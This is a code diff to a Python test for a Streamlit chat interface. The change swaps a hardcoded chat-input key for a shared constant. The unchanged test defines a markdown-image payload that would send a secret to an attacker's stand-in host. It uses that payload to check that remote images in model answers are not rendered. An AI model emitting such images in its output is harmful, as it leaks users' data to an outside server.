@@ -9,6 +9,7 @@ from streamlit.testing.v1 import AppTest
 
 from tests.ui.conftest import APP
 from tests.workbench.openai_server import ChatServer, Say, task_of
+from workbench.ui import state
 
 EXFIL = "![x](http://attacker.example/leak?q=SECRET)"
 
@@ -25,7 +26,7 @@ def test_a_remote_image_in_the_model_answer_is_not_rendered(ui_copy, monkeypatch
             at = AppTest.from_file(str(APP), default_timeout=60)
             at.run()
             at.switch_page("views/chat.py").run()
-            at.chat_input(key="chat_input").set_value("父子块检索的数据结构是什么？").run()
+            at.chat_input(key=state.CHAT_INPUT).set_value("父子块检索的数据结构是什么？").run()
         finally:
             st.cache_resource.clear()
         assert srv.tasks(), "the page did not call the LLM"
